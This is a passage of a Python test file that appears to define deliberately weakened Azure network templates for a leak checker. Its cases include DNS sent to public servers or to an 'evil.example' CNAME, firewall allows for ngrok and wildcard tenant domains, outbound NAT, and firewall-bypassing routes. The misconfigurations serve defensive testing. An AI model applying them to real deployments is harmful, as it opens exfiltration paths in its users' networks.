        FIXED,
        add(zone("oai.openai.azure.com", "vnet"), record("oai.openai.azure.com", "@", "203.0.113.9")),
    ),
    leak(
        "a zone for the one alias",
        alone,
        "3",
        FIXED,
        add(zone(f"oai.{OPENAI_ZONE}", "vnet"), record(f"oai.{OPENAI_ZONE}", "@", "203.0.113.9")),
    ),
    leak(
        "another name by CNAME in a shadowing zone",
        alone,
        "3",
        FIXED,
        add(
            zone("openai.azure.com", "vnet"),
            res(
                f"{NET}/privateDnsZones/CNAME", "openai.azure.com/oai", {"ttl": 300, "cnameRecord": {"cname": "evil.example"}}, "2024-06-01"
            ),
        ),
    ),
    leak("the network asks a public DNS server", alone, "3", put("virtualNetworks", "dhcpOptions", {"dnsServers": ["8.8.8.8"]})),
    leak(
        "the network asks its own server first and a public one second",
        alone,
        "3",
        put("virtualNetworks", "dhcpOptions", {"dnsServers": ["168.63.129.16", "1.1.1.1"]}),
    ),
    leak("a machine asks a public DNS server", alone, "3", put("networkInterfaces", "dnsSettings", {"dnsServers": ["8.8.8.8"]})),
    leak(
        "machines of a scale set ask a public DNS server",
        alone,
        "3",
        add(scale_set("vnet", "snet-app")),
        lambda t: find(t, "virtualMachineScaleSets")["properties"]["virtualMachineProfile"]["networkProfile"][
            "networkInterfaceConfigurations"
        ][0]["properties"].update(dnsSettings={"dnsServers": ["8.8.8.8"]}),
    ),
    leak("the network asks a machine", alone, "3", put("virtualNetworks", "dhcpOptions", {"dnsServers": ["10.0.1.4"]})),
    leak("the firewall's proxy is off", spoked, "3 4", put("firewallPolicies", "dnsSettings", {"enableProxy": False})),
    leak(
        "the firewall asks a public server",
        spoked,
        "3 4",
        put("firewallPolicies", "dnsSettings", {"enableProxy": True, "servers": ["8.8.8.8"]}),
    ),
    leak(
        "the zone is linked to the spoke that asks the firewall of the hub",
        spoked,
        "3 4",
        put("virtualNetworkLinks", "virtualNetwork", ref(VNET, "app"), f"{OPENAI_ZONE}/to-hub"),
    ),
    leak(
        "a resolver's rule set answers for the network",
        alone,
        "3",
        add(
            res(f"{NET}/dnsForwardingRulesets", "rs"),
            res(f"{NET}/dnsForwardingRulesets/virtualNetworkLinks", "rs/l", {"virtualNetwork": ref(VNET, "vnet")}),
            res(
                f"{NET}/dnsForwardingRulesets/forwardingRules",
                "rs/all",
                {"domainName": ".", "targetDnsServers": [{"ipAddress": "203.0.113.53", "port": 53}]},
            ),
        ),
    ),
    leak(
        "the endpoint waits for approval",
        alone,
        "2",
        lambda t: find(t, "privateEndpoints", "pe-oai")["properties"].update(
            manualPrivateLinkServiceConnections=find(t, "privateEndpoints", "pe-oai")["properties"].pop("privateLinkServiceConnections")
        ),
    ),
    leak(
        "the endpoint is for a group that the service does not have",
        alone,
        "3",
        put("privateEndpoints", "privateLinkServiceConnections.0.properties.groupIds", ["vault"], "pe-oai"),
    ),
    leak(
        "the endpoint names no group",
        alone,
        "3",
        put("privateEndpoints", "privateLinkServiceConnections.0.properties.groupIds", [], "pe-oai"),
    ),
    leak(
        "the endpoint leads to somebody else's account",
        alone,
        "2 5",
        put(
            "privateEndpoints",
            "privateLinkServiceConnections.0.properties.privateLinkServiceId",
            f"{ELSEWHERE}/Microsoft.CognitiveServices/accounts/theirs",
            "pe-oai",
        ),
    ),
    leak(
        "an endpoint by an alias of somebody else's service",
        alone,
        "5",
        add(
            res(
                f"{NET}/privateEndpoints",
                "pe-out",
                {
                    "subnet": ref(f"{VNET}/subnets", "vnet", "snet-pe"),
                    "manualPrivateLinkServiceConnections": [
                        {
                            "name": "c",
                            "properties": {
                                "privateLinkServiceId": "theirs.1b2c3d4e-0000-0000-0000-000000000000.westeurope.azure.privatelinkservice",
                                "requestMessage": "please",
                            },
                        }
                    ],
                },
            )
        ),
    ),
    leak(
        "the only endpoint is deployed on a condition",
        alone,
        "2",
        lambda t: (
            t.update(parameters={"deploy": {"type": "bool"}}),
            find(t, "privateEndpoints", "pe-oai").update(condition="[parameters('deploy')]"),
        ),
    ),
    leak("the only endpoint is not deployed", alone, "2", lambda t: find(t, "privateEndpoints", "pe-oai").update(condition=False)),
    leak(
        "the endpoint stands in a network that nobody reaches it from",
        alone,
        "3",
        add(network("lost", "10.9.0.0/16", subnet("snet-pe", "10.9.1.0/24"))),
        put("privateEndpoints", "subnet", ref(f"{VNET}/subnets", "lost", "snet-pe"), "pe-oai"),
    ),
    leak(
        "storage is asked for by a name that has no endpoint",
        alone,
        "3",
        put("privateDnsZoneGroups", "privateDnsZoneConfigs", [], "pe-st/default"),
    ),
    leak("a multi-service account has only one of its zones", alone, "3", lambda t: find(t, ACCOUNT).update(kind="AIServices")),
)

OUT = allow("90 out allow tcp 443 from * to Internet")
WAYS_OUT: tuple[Attack, ...] = (
    leak("default outbound access is not written", alone, "5", OUT, on_subnet("defaultOutboundAccess", ...)),
    leak("default outbound access is on", alone, "5", OUT, on_subnet("defaultOutboundAccess", True)),
    leak("storage of the region is reached from a private subnet", alone, "5", OUT),
    leak(
        "a NAT gateway",
        alone,
        "5",
        OUT,
        add(
            public_ip("pip"),
            res(f"{NET}/natGateways", "nat", {"publicIpAddresses": [ref(f"{NET}/publicIPAddresses", "pip")]}, sku={"name": "Standard"}),
        ),
        on_subnet("natGateway", ref(f"{NET}/natGateways", "nat")),
    ),
    leak(
        "a NAT gateway of the whole network",
        alone,
        "5",
        OUT,
        add(
            public_ip("pip"),
            res(
                f"{NET}/natGateways",
                "nat",
                {"publicIpAddresses": [ref(f"{NET}/publicIPAddresses", "pip")], "sourceVirtualNetwork": ref(VNET, "vnet")},
                sku={"name": "StandardV2"},
            ),
        ),
    ),
    leak("a public address by which a machine leaves", alone, "5", OUT, *NIC_PUBLIC),
    leak(
        "an outbound rule of a load balancer",
        alone,
        "5",
        OUT,
        POOLED,
        add(
            public_ip("pip"),
            balancer(
                loadBalancingRules=[],
                outboundRules=[
                    {
                        "name": "out",
                        "properties": {
                            "protocol": "All",
                            "frontendIPConfigurations": [ref(f"{NET}/loadBalancers/frontendIPConfigurations", "lb", "front")],
                            "backendAddressPool": ref(f"{NET}/loadBalancers/backendAddressPools", "lb", "pool"),
                        },
                    }
                ],
            ),
        ),
    ),
    leak("a load balancing rule that translates outbound too", alone, "5", OUT, POOLED, add(public_ip("pip"), balancer())),
    leak("a wide tag", alone, "5", allow("90 out allow tcp 443 from * to AzureCloud"), on_subnet("defaultOutboundAccess", ...)),
    leak("storage by its tag", alone, "5", allow("90 out allow tcp 443 from * to Storage"), on_subnet("defaultOutboundAccess", ...)),
    leak("DNS to the world", alone, "5", allow("90 out allow udp 53 from * to *"), on_subnet("defaultOutboundAccess", ...)),
    leak("ICMP to the world", alone, "5", allow("90 out allow icmp * from * to *"), on_subnet("defaultOutboundAccess", ...)),
    leak("the group stands on no subnet", alone, "5", on_subnet("networkSecurityGroup", ...), on_subnet("defaultOutboundAccess", ...)),
    leak(
        "a service endpoint",
        alone,
        "5",
        allow("90 out allow tcp 443 from * to Storage"),
        on_subnet("serviceEndpoints", [{"service": "Microsoft.Storage"}]),
    ),
    leak(
        "a service endpoint that passes the firewall by",
        spoked,
        "5",
        allow("90 out allow * * from * to *", "nsg-spoke"),
        on_subnet("serviceEndpoints", [{"service": "Microsoft.KeyVault", "locations": ["*"]}], "app"),
    ),
    leak(
        "a service endpoint policy for a foreign subscription",
        spoked,
        "5",
        on_subnet("serviceEndpoints", [{"service": "Microsoft.Storage"}], "app"),
        on_subnet("serviceEndpointPolicies", [ref(f"{NET}/serviceEndpointPolicies", "sep")], "app"),
        add(
            res(
                f"{NET}/serviceEndpointPolicies",
                "sep",
                {
                    "serviceEndpointPolicyDefinitions": [
                        {
                            "name": "d",
                            "properties": {
                                "service": "Microsoft.Storage",
                                "serviceResources": ["/subscriptions/11111111-2222-3333-4444-555555555555"],
                            },
                        }
                    ]
                },
            )
        ),
    ),
    leak(
        "the route table stands on no subnet",
        spoked,
        "5",
        on_subnet("routeTable", ..., "app"),
        on_subnet("defaultOutboundAccess", ..., "app"),
    ),
    leak(
        "a route of half the internet goes past the firewall",
        spoked,
        "5",
        route("0.0.0.0/1", "Internet"),
        on_subnet("defaultOutboundAccess", ..., "app"),
    ),
    leak(
        "a route by service tag goes past the firewall",
        spoked,
        "5",
        route("AzureMonitor", "Internet"),
        on_subnet("defaultOutboundAccess", ..., "app"),
    ),
    leak(
        "the default route is missing for IPv6",
        spoked,
        "5",
        put("virtualNetworks", "addressSpace.addressPrefixes", ["10.1.0.0/16", "fd00:1::/48"], "app"),
        on_subnet("addressPrefixes", ["10.1.1.0/24", "fd00:1::/64"], "app"),
        on_subnet("addressPrefix", ..., "app"),
        on_subnet("defaultOutboundAccess", ..., "app"),
    ),
    leak("a next hop where nothing stands", spoked, "5", put("routeTables", "routes.0.properties.nextHopIpAddress", "10.0.0.99")),
    leak(
        "a next hop that is a machine",
        alone,
        "5",
        OUT,
        add(
            res(
                f"{NET}/routeTables",
                "rt",
                {
                    "routes": [
                        {
                            "name": "all",
                            "properties": {"addressPrefix": "0.0.0.0/0", "nextHopType": "VirtualAppliance", "nextHopIpAddress": "10.0.1.4"},
                        }
                    ]
                },
            )
        ),
        on_subnet("routeTable", ref(f"{NET}/routeTables", "rt")),
    ),
    leak(
        "a next hop that is a gateway",
        alone,
        "5",
        OUT,
        add(
            res(
                f"{NET}/routeTables",
                "rt",
                {"routes": [{"name": "all", "properties": {"addressPrefix": "0.0.0.0/0", "nextHopType": "VirtualNetworkGateway"}}]},
            )
        ),
        on_subnet("routeTable", ref(f"{NET}/routeTables", "rt")),
    ),
    leak("a firewall rule for every name", spoked, "5", fw(collection("all", 400, "Allow", fqdns("all", "*")))),
    leak("a firewall rule for every name of .com", spoked, "5", fw(collection("all", 400, "Allow", fqdns("all", "*.com")))),
    leak(
        "a wildcard over a domain of every tenant", spoked, "5", fw(collection("st", 400, "Allow", fqdns("st", "*.blob.core.windows.net")))
    ),
    leak(
        "a wildcard over a part of such a domain", spoked, "5", fw(collection("st", 400, "Allow", fqdns("st", "*.z6.web.core.windows.net")))
    ),
    leak("a web category", spoked, "5", fw(collection("web", 400, "Allow", fqdns("web", webCategories=["SearchEnginesAndPortals"])))),
    leak(
        "a URL in any path of a shared host",
        spoked,
        "5",
        fw(collection("url", 400, "Allow", fqdns("url", targetUrls=["*.github.io/*"], terminateTLS=True))),
    ),
    leak("a network rule that shadows the names", spoked, "5", fw(collection("wide", 210, "Allow", flows("wide", "10.1.0.0/16", "*")))),
    leak(
        "a network rule with a wide tag",
        spoked,
        "5",
        fw(collection("tag", 210, "Allow", flows("tag", "10.1.0.0/16", "AzureCloud.westeurope"))),
    ),
    leak(
        "a network rule for DNS to the world",
        spoked,
        "5",
        allow("90 out allow udp 53 from * to *", "nsg-spoke"),
        fw(collection("dns", 210, "Allow", flows("dns", "*", "*", "53", "UDP"))),
    ),
    leak(
        "a network rule to a prefix of the internet in an IP group",
        spoked,
        "5",
        add(res(f"{NET}/ipGroups", "ipg", {"ipAddresses": ["8.8.8.0/24"]})),
        fw(
            collection(
                "ipg",
                210,
                "Allow",
                {
                    "ruleType": "NetworkRule",
                    "name": "r",
                    "ipProtocols": ["Any"],
                    "sourceAddresses": ["*"],
                    "destinationIpGroups": [rid(f"{NET}/ipGroups", "ipg")],
                    "destinationPorts": ["*"],
                },
            )
        ),
    ),
    leak(
        "a network rule by a name of a shared domain",
        spoked,
        "5",
        fw(
            collection(
                "n",
                210,
                "Allow",
                {
                    "ruleType": "NetworkRule",
                    "name": "r",
                    "ipProtocols": ["TCP"],
                    "sourceAddresses": ["*"],
                    "destinationFqdns": ["*.ngrok.io"],
                    "destinationPorts": ["443"],
                },
            )
        ),
    ),
    leak(
        "an allow of the parent policy comes first",
        spoked,
        "5",
        add(
            res(f"{NET}/firewallPolicies", "parent", {}),
            res(
                f"{NET}/firewallPolicies/ruleCollectionGroups",
                "parent/g",
                {"priority": 65000, "ruleCollections": [collection("p", 65000, "Allow", flows("all", "*", "*", "*", "Any"))]},
            ),
        ),
        put("firewallPolicies", "basePolicy", ref(f"{NET}/firewallPolicies", "parent"), "fwp"),
        fw(collection("d", 100, "Deny", flows("no", "*", "*", "*", "Any"))),
    ),
    leak(
        "the explicit proxy of the firewall, which needs no route",
        spoked,
        "5",
        put("firewallPolicies", "explicitProxy", {"enableExplicitProxy": True, "httpPort": 8080, "httpsPort": 8443}),
        allow("90 out allow tcp 8443 from * to 10.0.0.4", "nsg-spoke"),
        fw(collection("all", 400, "Allow", fqdns("all", "*", source="*"))),
        put("routeTables", "routes.0.properties", {"addressPrefix": "0.0.0.0/0", "nextHopType": "None"}),
    ),
    leak(
        "forced tunnel to a firewall of another subscription",
        spoked,
        "5",
        put("routeTables", "routes.0.properties.nextHopIpAddress", "10.200.0.4"),
        add(
            res(
                f"{VNET}/virtualNetworkPeerings",
                "app/to-far",
                {"remoteVirtualNetwork": {"id": f"{ELSEWHERE}/{VNET}/far"}, "allowVirtualNetworkAccess": True},
            )
        ),
    ),
    leak(
        "a delegated subnet that leaves by itself",
        alone,
        "5",
        lambda t: find(t, "virtualNetworks")["properties"]["subnets"].append(
            subnet("snet-cae", "10.0.4.0/23", delegations=[{"name": "d", "properties": {"serviceName": "Microsoft.App/environments"}}])
        ),
    ),
    leak(
        "a peered network with a NAT gateway of its own leaves",
        alone,
        "5",
        add(network("free", "10.7.0.0/16", {"name": "s", "properties": {"addressPrefix": "10.7.1.0/24"}}), peer("vnet", "free")),
    ),
)

SEGMENTS: tuple[Attack, ...] = (
    leak(
        "two spokes peered with each other",
        spoked,
        "6",
        add(peer("app", "other")),
        allow("90 in allow tcp 443 from 10.1.0.0/16 to *", "nsg-spoke"),
        allow("90 out allow tcp 443 from * to 10.3.0.0/16", "nsg-spoke"),
    ),
    leak(
        "two spokes peered with each other, each with a Bastion of its own",
        spoked,
        "6",
        add(peer("app", "other")),
        allow("90 in allow tcp 443 from 10.1.0.0/16 to *", "nsg-spoke"),
        allow("90 out allow tcp 443 from * to 10.3.0.0/16", "nsg-spoke"),
        with_subnet("app", {"name": "AzureBastionSubnet", "properties": {"addressPrefix": "10.1.9.0/26"}}),
        with_subnet("other", {"name": "AzureBastionSubnet", "properties": {"addressPrefix": "10.3.9.0/26"}}),
    ),
    leak(
        "the firewall lets one spoke into another",
        spoked,
        "6",
        fw(collection("x", 210, "Allow", flows("x", "10.1.0.0/16", "10.3.0.0/16"))),
        allow("90 in allow tcp 443 from * to *", "nsg-spoke"),
        allow("90 out allow tcp 443 from * to *", "nsg-spoke"),
    ),
    leak(
        "the firewall lets all private addresses talk",
        spoked,
        "6 7",
        fw(collection("x", 210, "Allow", flows("x", "10.0.0.0/8", "10.0.0.0/8", "*", "Any"))),
        allow("90 in allow * * from 10.0.0.0/8 to *", "nsg-spoke"),
        allow("90 out allow * * from * to 10.0.0.0/8", "nsg-spoke"),
    ),
    leak(
        "a rule for VirtualNetwork, which a default route widens",
        spoked,
        "6",
        fw(collection("x", 210, "Allow", flows("x", "*", "10.0.0.0/8", "*", "Any"))),
        allow("90 in allow * * from VirtualNetwork to VirtualNetwork", "nsg-spoke"),
    ),
    leak(
        "the firewall translates its own address to a machine of another spoke",
        spoked,
        "6",
        fw(collection("in", 100, "DNAT", dnat("x", "10.3.1.4", source="10.1.0.0/16", at="10.0.0.4"))),
        allow("90 in allow tcp 443 from 10.0.0.0/26 to *", "nsg-spoke"),
        allow("90 out allow tcp 8443 from * to 10.0.0.4", "nsg-spoke"),
    ),
    leak(
        "two hubs, each with a firewall, and routes between them",
        spoked,
        "6",
        add(
            network(
                "hub2",
                "10.10.0.0/16",
                {
                    "name": "AzureFirewallSubnet",
                    "properties": {"addressPrefix": "10.10.0.0/26", "routeTable": ref(f"{NET}/routeTables", "rt-fw2")},
                },
            ),
            network(
                "far",
                "10.11.0.0/16",
                subnet(
                    "snet",
                    "10.11.1.0/24",
                    networkSecurityGroup=ref(f"{NET}/networkSecurityGroups", "nsg-far"),
                    routeTable=ref(f"{NET}/routeTables", "rt-far"),
                ),
            ),
            nsg("nsg-far", "100 in allow tcp 443 from 10.1.0.0/16 to *", "4000 out deny * * from * to *"),
            res(
                f"{NET}/routeTables",
                "rt-far",
                {
                    "routes": [
                        {
                            "name": "all",
                            "properties": {
                                "addressPrefix": "0.0.0.0/0",
                                "nextHopType": "VirtualAppliance",
                                "nextHopIpAddress": "10.10.0.4",
                            },
                        }
                    ]
                },
            ),
            res(
                f"{NET}/routeTables",
                "rt-fw",
                {
                    "routes": [
                        {
                            "name": "far",
                            "properties": {
                                "addressPrefix": "10.11.0.0/16",
                                "nextHopType": "VirtualAppliance",
                                "nextHopIpAddress": "10.10.0.4",
                            },
                        }
                    ]
                },
            ),
            res(
                f"{NET}/routeTables",
                "rt-fw2",
                {
                    "routes": [
                        {
                            "name": "app",
                            "properties": {
                                "addressPrefix": "10.1.0.0/16",
                                "nextHopType": "VirtualAppliance",
                                "nextHopIpAddress": "10.0.0.4",
                            },
                        }
                    ]
                },
            ),
            peer("hub", "hub2"),
            peer("hub2", "far"),
            public_ip("pip-fw2"),
            res(
                f"{NET}/azureFirewalls",
                "fw2",
                {
                    "sku": {"name": "AZFW_VNet", "tier": "Premium"},
                    "firewallPolicy": ref(f"{NET}/firewallPolicies", "fwp"),
                    "ipConfigurations": [
                        {
                            "name": "one",
                            "properties": {
                                "subnet": ref(f"{VNET}/subnets", "hub2", "AzureFirewallSubnet"),
                                "publicIPAddress": ref(f"{NET}/publicIPAddresses", "pip-fw2"),
                                "privateIPAddress": "10.10.0.4",
                            },
                        }
                    ],
                },
            ),
            *machine("vm-far", "far", "snet"),
        ),
        on_subnet("routeTable", ref(f"{NET}/routeTables", "rt-fw"), "hub"),
        fw(collection("x", 210, "Allow", flows("x", "10.1.0.0/16", "10.11.0.0/16"))),
        allow("90 out allow tcp 443 from * to 10.11.0.0/16", "nsg-spoke"),
    ),
    leak(
        "half a peering",
        spoked,
        "6",
        add(peer("app", "other", both=False)),
        allow("90 in allow tcp 443 from 10.1.0.0/16 to *", "nsg-spoke"),
        allow("90 out allow tcp 443 from * to 10.3.0.0/16", "nsg-spoke"),
    ),
    leak(
        "a spoke peered with a network of another subscription",
        spoked,
        "6",
        add(
            res(
                f"{VNET}/virtualNetworkPeerings",
                "other/to-x",
                {"remoteVirtualNetwork": {"id": f"{ELSEWHERE}/{VNET}/x"}, "allowVirtualNetworkAccess": True},
            )
        ),
    ),
    leak(
        "gateway transit",
        spoked,
        "6",
        put("virtualNetworkPeerings", "allowGatewayTransit", True),
        add(res(f"{NET}/virtualNetworkGateways", "ergw", {"gatewayType": "ExpressRoute"})),
    ),
    leak(
        "a route server",
        spoked,
        "5 6",
        add(
            res(f"{NET}/virtualHubs", "rs", {"sku": "Standard"}),
            res(f"{NET}/virtualHubs/bgpConnections", "rs/nva", {"peerAsn": 65001, "peerIp": "10.0.5.4"}),
        ),
    ),
    leak(
        "SSH between subnets of one network",
        alone,
        "7",
        allow("90 in allow tcp 22 from VirtualNetwork to *"),
        allow("90 out allow tcp 22 from * to VirtualNetwork"),
    ),
    leak("no group at all in the network", alone, "7", on_subnet("networkSecurityGroup", ...)),
    leak(
        "RDP from the company's network behind a gateway",
        alone,
        "7",
        allow("90 in allow tcp 3389 from 10.0.0.0/8 to *"),
        lambda t: find(t, "virtualNetworks")["properties"]["subnets"].append(
            {"name": "GatewaySubnet", "properties": {"addressPrefix": "10.0.8.0/27"}}
        ),
    ),
    leak(
        "WinRM by an application security group that anybody joins",
        alone,
        "7",
        add(res(f"{NET}/applicationSecurityGroups", "asg")),
        lambda t: find(t, "networkSecurityGroups")["properties"]["securityRules"].append(
            {
                "name": "asg",
                "properties": {
                    "priority": 80,
                    "direction": "Inbound",
                    "access": "Allow",
                    "protocol": "Tcp",
                    "sourcePortRange": "*",
                    "destinationPortRange": "5986",
                    "destinationAddressPrefix": "*",
                    "sourceApplicationSecurityGroups": [ref(f"{NET}/applicationSecurityGroups", "asg")],
                },
            }
        ),
        put(
            "networkInterfaces", "ipConfigurations.0.properties.applicationSecurityGroups", [ref(f"{NET}/applicationSecurityGroups", "asg")]
        ),
        allow("90 out allow tcp 5986 from * to *"),
    ),
)
SECOND: tuple[Attack, ...] = (
    leak("a wildcard without a dot", spoked, "5", fw(collection("ms", 400, "Allow", fqdns("ms", "*microsoft.com")))),
    leak("a wildcard that holds every tenant's OneLake", spoked, "5", fw(collection("ms", 400, "Allow", fqdns("ms", "*.microsoft.com")))),
    leak(
        "the FQDN tag of SharePoint, where every tenant's files are",
        spoked,
        "5",
        fw(collection("m365", 400, "Allow", fqdns("m365", fqdnTags=["Office365.SharePoint.Optimize"]))),
    ),
    leak(
        "a rule set forwards every name to a server on the internet",
        alone,
        "5",
        add(
            res(f"{NET}/dnsForwardingRulesets", "rs"),
            res(
                f"{NET}/dnsForwardingRulesets/forwardingRules",
                "rs/all",
                {"domainName": ".", "targetDnsServers": [{"ipAddress": "203.0.113.53", "port": 53}]},
            ),
        ),
    ),
    leak("storage whose names are in a zone of Azure's choice", alone, "3", put(STORE, "dnsEndpointType", "AzureDnsZone")),
    leak(
        "Databricks whose nodes have public addresses",
        alone,
        "1",
        extra(
            res(
                "Microsoft.Databricks/workspaces",
                "dbw",
                {"publicNetworkAccess": "Disabled", "parameters": {"enableNoPublicIp": {"value": False}}},
            )
        ),
    ),
    leak(
        "Data Explorer with a public address in the network",
        alone,
        "1",
        extra(
            res(
                "Microsoft.Kusto/clusters",
                "adx",
                {
                    "publicNetworkAccess": "Disabled",
                    "virtualNetworkConfiguration": {
                        "subnetId": rid(f"{VNET}/subnets", "vnet", "snet-app"),
                        "enginePublicIpId": rid(f"{NET}/publicIPAddresses", "pip"),
                    },
                },
                "2023-08-15",
            )
        ),
    ),
    leak(
        "Purview whose managed storage is open",
        alone,
        "1 2",
        extra(
            res("Microsoft.Purview/accounts", "pv", {"publicNetworkAccess": "Disabled", "managedResourcesPublicNetworkAccess": "Enabled"})
        ),
    ),
)
LINKED = {"virtualNetwork": ref(VNET, "vnet")}
LINKS = f"{NET}/dnsResolverPolicies"
THIRD: tuple[Attack, ...] = (
    leak("an automatic cluster, whose routing add-on is on", alone, "1", extra({**aks(), "sku": {"name": "Automatic"}})),
    leak(
        "the add-on of application gateways for containers",
        alone,
        "1",
        extra(aks(ingressProfile={"applicationLoadBalancer": {"enabled": True}})),
    ),
    leak(
        "a rule set that opens the namespace again",
        alone,
        "1 2",
        extra(
            res("Microsoft.EventHub/namespaces", "eh", {"publicNetworkAccess": "Disabled", "disableLocalAuth": True}, "2024-01-01"),
            "namespace",
            "privatelink.servicebus.windows.net",
        ),
        add(
            res(
                "Microsoft.EventHub/namespaces/networkRuleSets",
                "eh/default",
                {"publicNetworkAccess": "Enabled", "defaultAction": "Allow"},
                "2024-01-01",
            )
        ),
    ),
    leak(
        "Redis Enterprise in a version that does not know the switch",
        alone,
        "1 2",
        extra(res("Microsoft.Cache/redisEnterprise", "re", {"publicNetworkAccess": "Disabled"}, "2023-11-01")),
    ),
    leak(
        "Databricks of old, whose nodes have public addresses when nothing is written",
        alone,
        "1 2",
        extra(res("Microsoft.Databricks/workspaces", "dbw", {"publicNetworkAccess": "Disabled"}, "2023-02-01")),
    ),
    leak(
        "keys of storage in a version that does not know the switch", alone, "2", lambda t: find(t, STORE).update(apiVersion="2018-11-01")
    ),
    leak(
        "agents that search with Bing",
        alone,
        "5",
        extra(foundry()),
        add(
            res(
                "Microsoft.CognitiveServices/accounts/connections",
                "fdry/bing",
                {"category": "GroundingWithBingSearch", "authType": "ApiKey", "target": "https://api.bing.microsoft.com/"},
                "2025-06-01",
            )
        ),
    ),
    leak(
        "a machine that registers itself as the account",
        alone,
        "3",
        lambda t: find(t, "virtualNetworkLinks", f"{OPENAI_ZONE}/to-vnet")["properties"].update(registrationEnabled=True),
        add(machine("oai", "vnet", "snet-app")),
    ),
    leak(
        "a security policy of DNS that blocks the name",
        alone,
        "3 4",
        add(
            res(LINKS, "pol", {}),
            res(f"{NET}/dnsResolverDomainLists", "list", {"domains": ["openai.azure.com."]}),
            res(
                f"{LINKS}/dnsSecurityRules",
                "pol/r",
                {
                    "priority": 100,
                    "action": {"actionType": "Block"},
                    "dnsResolverDomainLists": [ref(f"{NET}/dnsResolverDomainLists", "list")],
                },
            ),
            res(f"{LINKS}/virtualNetworkLinks", "pol/l", LINKED),
        ),
    ),
    leak("a data lake with an endpoint for its blobs alone", alone, "3", put(STORE, "isHnsEnabled", True)),
    leak(
        "a spoke of a Virtual WAN hub of another subscription",
        spoked,
        "5 6",
        add(
            *(
                res(f"{NET}/virtualHubs/hubVirtualNetworkConnections", f"theirs/{name}", {"remoteVirtualNetwork": ref(VNET, name)})
                for name in ("app", "other")
            )
        ),
    ),
    leak(
        "a Virtual WAN hub that names its networks inside",
        spoked,
        "6",
        add(
            res(
                f"{NET}/virtualHubs",
                "vhub",
                {"virtualNetworkConnections": [{"name": "a", "properties": {"remoteVirtualNetwork": ref(VNET, "app")}}]},
            )
        ),
    ),
    leak(
        "a VPN gateway of a Virtual WAN hub",
        spoked,
        "5 6",
        add(
            res(f"{NET}/virtualWans", "wan", {"type": "Standard"}),
            res(f"{NET}/vpnSites", "site", {"addressSpace": {"addressPrefixes": ["192.168.0.0/24"]}}),
            res(f"{NET}/vpnGateways", "gateway", {"virtualHub": ref(f"{NET}/virtualHubs", "vhub")}),
        ),
    ),
    leak(
        "subnets peered with each other",
        spoked,
        "6",
        add(
            *(
                {**half, "properties": {**half["properties"], "peerCompleteVnets": False, "localSubnetNames": ["snet"]}}
                for half in peer("app", "other")
            )
        ),
        put("networkSecurityGroups", "securityRules", [], "nsg-spoke"),
    ),
)


def closed_service(kind: str, name: str, properties: Body, api: str = "2025-06-01", **more: Any) -> Change:
    """A service more, whose public access is off."""
    return extra(res(kind, name, {"publicNetworkAccess": "Disabled", **properties}, api, **more))


def workspace(*parts: Body) -> Change:
    """A closed workspace of logs, with parts."""
    closed = {
        "publicNetworkAccessForIngestion": "Disabled",
        "publicNetworkAccessForQuery": "Disabled",
        "features": {"disableLocalAuth": True},
    }
    return add(res("Microsoft.OperationalInsights/workspaces", "law", closed, "2023-09-01"), *parts)


PREVENTED = {"managedVirtualNetworkSettings": {"preventDataExfiltration": True}, "azureADOnlyAuthentication": True}
SYNAPSE, IOT = "Microsoft.Synapse/workspaces", "Microsoft.Devices/IotHubs"
NO_FALLBACK = {"fallbackRoute": {"isEnabled": False}}
RULED = {"defaultAction": "Deny", "applyToBuiltInEventHubEndpoint": True, "ipRules": [{"filterName": "all", "ipMask": "0.0.0.0/1"}]}


def chosen(expression: str, **parameters: Body) -> tuple[Change, ...]:
    """Public access of storage by an expression, with everybody let in where it is on."""
    return (
        put(STORE, "publicNetworkAccess", expression),
        put(STORE, "networkAcls", {"defaultAction": "Allow"}),
        lambda template: template.setdefault("parameters", {}).update(parameters),
    )


def by_switch(question: str) -> tuple[Change, ...]:
    """Public access of storage by a question."""
    return chosen(f"[if({question}, 'Disabled', 'Enabled')]")


def by_version(version: str | None, profile: str | None = None) -> Change:
    """The version of the API that storage is asked for in."""

    def change(template: Body) -> None:
        find(template, STORE)["apiVersion"] = version
        template.update({"apiProfile": profile, "parameters": {"version": {"type": "string"}}})

    return change


FOURTH: tuple[Attack, ...] = (
    leak(
        "IPv6 rules that let everybody in",
        alone,
        "1 2",
        put(STORE, "publicNetworkAccess", "Enabled"),
        put(STORE, "networkAcls", {"defaultAction": "Deny", "bypass": "None", "ipv6Rules": [{"value": "2000::/3", "action": "Allow"}]}),
    ),
    leak(
        "a pool of nodes by which pods leave, of their own public prefix",
        alone,
        "5",
        extra(aks()),
        add(
            res(
                "Microsoft.ContainerService/managedClusters/agentPools",
                "aks/egress",
                {
                    "mode": "Gateway",
                    "vnetSubnetID": rid(f"{VNET}/subnets", "vnet", "snet-app"),
                    "gatewayProfile": {"publicIPPrefixSize": 30},
                },
            )
        ),
    ),
    leak(
        "such a pool written in the cluster",
        alone,
        "5",
        extra(aks(agentPoolProfiles=[{"name": "e", "mode": "Gateway", "vnetSubnetID": rid(f"{VNET}/subnets", "vnet", "snet-app")}])),
    ),
    leak(
        "Redis that asks for no password",
        alone,
        "2",
        extra(
            res(
                "Microsoft.Cache/redis",
                "r",
                {
                    "publicNetworkAccess": "Disabled",
                    "disableAccessKeyAuthentication": True,
                    "redisConfiguration": {"authnotrequired": "true"},
                },
                "2024-11-01",
            ),
            "redisCache",
            "privatelink.redis.cache.windows.net",
        ),
    ),
    leak(
        "a registry of models that makes storage with anonymous blobs",
        alone,
        "2",
        extra(
            res(
                "Microsoft.MachineLearningServices/registries",
                "reg",
                {
                    "publicNetworkAccess": "Disabled",
                    "regionDetails": [
                        {
                            "location": "westeurope",
                            "storageAccountDetails": [{"systemCreatedStorageAccount": {"allowBlobPublicAccess": True}}],
                        }
                    ],
                },
                "2024-04-01",
            ),
            "amlregistry",
            "privatelink.api.azureml.ms",
        ),
    ),
    leak(
        "Synapse that prevents exfiltration without a managed network", alone, "5", closed_service(SYNAPSE, "syn", PREVENTED, "2021-06-01")
    ),
    leak(
        "Synapse that may reach a foreign tenant",
        alone,
        "5",
        closed_service(
            SYNAPSE,
            "syn",
            {
                **PREVENTED,
                "managedVirtualNetwork": "default",
                "managedVirtualNetworkSettings": {
                    "preventDataExfiltration": True,
                    "allowedAadTenantIdsForLinking": ["11111111-2222-3333-4444-555555555555"],
                },
            },
            "2021-06-01",
        ),
    ),
    leak(
        "what is said on SignalR goes to an upstream",
        alone,
        "5",
        closed_service(
            "Microsoft.SignalRService/signalR",
            "sr",
            {"disableLocalAuth": True, "upstream": {"templates": [{"urlTemplate": "https://x.example/{hub}"}]}},
            "2024-03-01",
        ),
    ),
    leak(
